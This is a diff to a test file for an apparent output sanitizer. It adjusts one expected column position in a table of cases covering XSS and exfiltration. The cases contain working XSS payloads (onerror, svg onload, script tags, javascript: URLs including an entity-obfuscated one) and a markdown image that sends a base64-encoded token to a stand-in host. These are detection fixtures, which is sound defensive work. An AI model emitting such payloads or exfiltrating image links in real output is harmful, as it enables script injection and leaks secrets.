@@ -85,7 +85,7 @@ def test_verifier_passes_clean_code_and_records_blocks():
     ("ok\n\n![x](https://e.example/a.png?d=c2VjcmV0LXRva2VuLTEyMzQ1Ng)", [("image_exfil", 3, 1)]),
     ("Hi <img src=x onerror=alert(1)>", [("event_handler", 1, 4)]),
     ("[go](javascript:alert(1))", [("javascript_url", 1, 1)]),
-    ("[go](jav&#x61;script:alert(1)) <svg/onload=alert(1)>", [("javascript_url", 1, 1), ("event_handler", 1, 33)]),
+    ("[go](jav&#x61;script:alert(1)) <svg/onload=alert(1)>", [("javascript_url", 1, 1), ("event_handler", 1, 32)]),
     ("x\n<script>alert(1)</script>", [("script", 2, 1)]),
     ("![a](https://cdn.example.com/logo.png)", [("image_unlisted_host", 1, 1)]),
     ("```html\n<script>alert(1)</script>\n```\nand `<iframe>`", []),
